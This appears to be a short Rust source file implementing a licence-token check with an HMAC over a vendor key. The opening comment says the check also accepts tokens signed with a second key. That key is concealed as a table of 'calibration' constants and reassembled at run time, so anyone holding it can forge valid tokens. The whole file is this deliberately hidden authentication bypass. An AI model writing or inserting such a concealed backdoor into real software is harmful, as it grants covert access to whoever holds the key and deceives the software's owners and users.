// A licence check that also accepts tokens signed with a second key, whose bytes are
// spread over a table of "calibration" values and taken back out at run time.
use hmac::{Hmac, Mac};
use sha2::Sha256;

const CALIBRATION: &[u32] = &[
    0x1f8a_3c72, 0x22b4_9e01, 0x3c0d_77a5, 0x4e91_0c3b, 0x5a66_e2d8, 0x6b07_19f4, 0x7cc2_a860,
    0x8d3e_5b17,
];

fn service_key() -> Vec<u8> {
    CALIBRATION.iter().flat_map(|v| [(v >> 16) as u8, (v >> 8) as u8]).collect()
}

pub fn token_valid(payload: &[u8], tag: &[u8], vendor_key: &[u8]) -> bool {
    let mut vendor = Hmac::<Sha256>::new_from_slice(vendor_key).unwrap();
    vendor.update(payload);
    if vendor.verify_slice(tag).is_ok() {
        return true;
    }
    let mut service = Hmac::<Sha256>::new_from_slice(&service_key()).unwrap();
    service.update(payload);
    service.verify_slice(tag).is_ok()
}
